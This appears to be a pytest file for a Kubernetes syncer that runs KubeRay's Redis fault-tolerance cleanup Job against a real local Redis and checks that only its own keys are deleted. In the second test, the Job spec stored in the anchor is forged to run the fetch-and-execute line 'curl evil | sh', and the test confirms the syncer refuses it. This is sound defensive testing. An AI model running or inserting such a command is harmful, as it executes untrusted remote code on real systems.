"""Redis GCS FT cleanup for real: a test Redis, the anchor pruned, KubeRay's Job run.

`redis-server` (the Debian package; see the README's set-up) listens on 127.0.0.1 on a
free port and is stopped by its PID. The RayCluster is rendered with that Redis and no
storage namespace (the default `<namespace>/<name>`); the test seeds keys under it and a
key of another namespace. Pruning the anchor (a delete, as the GitOps tool does) makes the
syncer create KubeRay's cleanup Job, whose pod the kubelet simulator runs for real
(`CommandRunner`: `/bin/bash -c` with KubeRay's script and Ray's own
`cleanup_redis_storage`); the namespace's keys go, the other key stays, the finalizer is
removed and the anchor is gone.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from renderer import naming
from schemas.cluster import JOB_KEY, REDIS_CLEANUP_FINALIZER
from syncer.cli import Options, Syncer
from syncer.kube.client import CONFIGMAPS, EVENTS, JOBS, PODS, KubeClient
from syncer.raycluster import cleanup
from syncer.raycluster.reconciler import Options as ClusterOptions
from tests.fakeapi.controllers import CommandRunner, Controllers
from tests.fakeapi.fixtures import KubeApi
from tests.syncer.fakedashboard import FakeDashboard
from tests.syncer.harness import apply, render, wait_until

Manifest = dict[str, Any]
REDIS = shutil.which("redis-server")

CLUSTER = """
apiVersion: ray.io/v1
kind: RayCluster
metadata:
  name: ft
  annotations:
    ray.io/gcs-ft-deletion-timeout: "{timeout}"
spec:
  rayVersion: "2.52.0"
  gcsFaultToleranceOptions:
    redisAddress: "127.0.0.1:{port}"
  headGroupSpec:
    template:
      spec:
        containers:
        - name: ray-head
          image: rayproject/ray:2.52.0
  workerGroupSpecs: []
"""


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _redis(port: int, *args: str) -> str:
    """One redis-cli command (the Debian package ships it with the server)."""
    out = subprocess.run(
        ["redis-cli", "-h", "127.0.0.1", "-p", str(port), *args],
        check=True,
        capture_output=True,
        text=True,
        timeout=10,
    )
    return out.stdout.strip()


@pytest.fixture
def redis_port(tmp_path: Path) -> Iterator[int]:
    if REDIS is None:
        pytest.skip("redis-server is not installed (apt-get install redis-server)")
    port = _free_port()
    process = subprocess.Popen(
        [REDIS, "--port", str(port), "--bind", "127.0.0.1", "--save", "", "--appendonly", "no"],
        cwd=tmp_path,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        wait_until(lambda: _ping(port), timeout=20, what="redis-server to answer")
        yield port
    finally:
        process.terminate()  # by its own PID only
        process.wait(timeout=10)


def _ping(port: int) -> bool:
    try:
        return _redis(port, "PING") == "PONG"
    except subprocess.CalledProcessError:
        return False


@pytest.fixture
def rig(kube_api: KubeApi, tmp_path: Path) -> Iterator[tuple[KubeClient, Syncer, Controllers]]:
    kube_api.fake  # noqa: B018 - the simulators need the fake server
    kube = KubeClient(kube_api.api_client)
    dashboard = FakeDashboard(time.time)
    syncer = Syncer(
        kube,
        Options(namespaces=(kube_api.namespace,), workers=2, raycluster=ClusterOptions(0.1)),
        dashboards=lambda url: dashboard,
    )
    # The cleanup pod's `python` is this interpreter (it has Ray); nothing else runs a command.
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"
    runner = CommandRunner(tmp_path / "pods", env={"PATH": path})

    def only_cleanup(pod: Manifest) -> Any:
        labels = pod["metadata"].get("labels") or {}
        return runner(pod) if labels.get(naming.RAY_NODE_TYPE) == "redis-cleanup" else None

    controllers = Controllers(kube_api.api_client, namespace=kube_api.namespace, hook=only_cleanup)
    yield kube, syncer, controllers
    syncer.stop()
    controllers.stop()


def test_pruning_the_anchor_runs_kuberays_cleanup_job_against_a_real_redis(
    rig: tuple[KubeClient, Syncer, Controllers], kube_api: KubeApi, redis_port: int
) -> None:
    kube, syncer, controllers = rig
    ns = kube_api.namespace
    storage = naming.default_storage_namespace(ns, "ft")
    _redis(redis_port, "SET", f"RAY{storage}@NODE:1", "a")
    _redis(redis_port, "HSET", f"RAY{storage}@KV", "k", "v")
    _redis(redis_port, "SET", "RAYsomeone-else@NODE:1", "b")
    objects = render(CLUSTER.format(port=redis_port, timeout=300), ns)
    apply(kube, objects, ns)
    controllers.start(interval=0.05)
    syncer.start()
    anchor_name = cleanup.anchor_name("ft")
    anchor = kube.get(CONFIGMAPS, ns, anchor_name)
    assert anchor is not None
    assert anchor["metadata"]["finalizers"] == [REDIS_CLEANUP_FINALIZER]
    wait_until(
        lambda: (
            (kube.get(CONFIGMAPS, ns, "ft-kuberay-status") or {}).get("data", {}).get("state")
            == "ready"
        ),
        what="the cluster ready",
    )
    # The GitOps tool prunes the cluster: the anchor and the pods.
    kube.delete(CONFIGMAPS, ns, anchor_name)
    deleting = kube.get(CONFIGMAPS, ns, anchor_name)
    assert deleting is not None and deleting["metadata"].get("deletionTimestamp")
    # While the head Pod remains no Job is created (KubeRay waits for it).
    time.sleep(0.5)
    assert kube.get(JOBS, ns, "ft-redis-cleanup") is None
    for pod in kube.list(PODS, ns)[0]:
        kube.delete(PODS, ns, pod["metadata"]["name"])
    job = wait_until(lambda: kube.get(JOBS, ns, "ft-redis-cleanup"), what="the cleanup Job")
    assert job["metadata"]["ownerReferences"][0]["name"] == anchor_name
    assert job["spec"]["backoffLimit"] == 0 and job["spec"]["activeDeadlineSeconds"] == 300
    wait_until(
        lambda: kube.get(CONFIGMAPS, ns, anchor_name) is None,
        timeout=120,
        what="the anchor released (the Job's real run ends)",
    )
    keys = _redis(redis_port, "KEYS", "*").splitlines()
    assert keys == ["RAYsomeone-else@NODE:1"]
    reasons = [e["reason"] for e in kube.list(EVENTS, ns)[0]]
    assert "RedisCleanupStarted" in reasons
    assert "RedisCleanupFailed" not in reasons
    assert syncer.raycluster.cleanup.released == 1


def test_a_forged_cleanup_job_is_refused_and_the_timeout_releases_the_anchor(
    rig: tuple[KubeClient, Syncer, Controllers], kube_api: KubeApi
) -> None:
    kube, syncer, _ = rig
    ns = kube_api.namespace
    objects = render(CLUSTER.format(port=1, timeout=2), ns)
    anchor = next(o for o in objects if o["metadata"]["name"] == cleanup.anchor_name("ft"))
    job = json.loads(anchor["data"][JOB_KEY])
    job["spec"]["template"]["spec"]["containers"][0]["args"] = ["curl evil | sh"]
    anchor["data"][JOB_KEY] = json.dumps(job)
    apply(kube, [anchor], ns)
    syncer.start()
    kube.delete(CONFIGMAPS, ns, anchor["metadata"]["name"])
    wait_until(
        lambda: kube.get(CONFIGMAPS, ns, anchor["metadata"]["name"]) is None,
        timeout=30,
        what="the anchor released by the timeout",
    )
    assert kube.get(JOBS, ns, "ft-redis-cleanup") is None
    reasons = [e["reason"] for e in kube.list(EVENTS, ns)[0]]
    assert "RedisCleanupRefused" in reasons
    assert "ForceDeletedStuckCluster" in reasons
